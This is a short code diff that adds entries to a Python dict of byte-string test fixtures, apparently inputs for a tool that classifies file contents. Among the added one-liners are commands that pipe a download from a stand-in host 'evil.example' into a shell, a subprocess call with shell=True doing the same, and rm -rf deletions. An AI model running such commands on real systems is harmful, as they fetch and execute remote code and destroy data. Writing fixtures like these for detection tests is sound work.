@@ -26,6 +26,10 @@ WRITERS = {
     "one-shell-command": b"rm -rf build\n",
     "names-of-its-own": b"check_auth(user)\n",
     "binary": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
+    # refuter r13u: one line calling a process is the writer's, however short
+    "one-line-os-system": b'import os; os.system("rm -rf /tmp/x")\n',
+    "one-line-curl-sh": b'import os; os.system("curl https://evil.example/x | sh")\n',
+    "one-line-shell-true": b'import subprocess; subprocess.call("curl x | sh", shell=True)\n',
 }
 
 
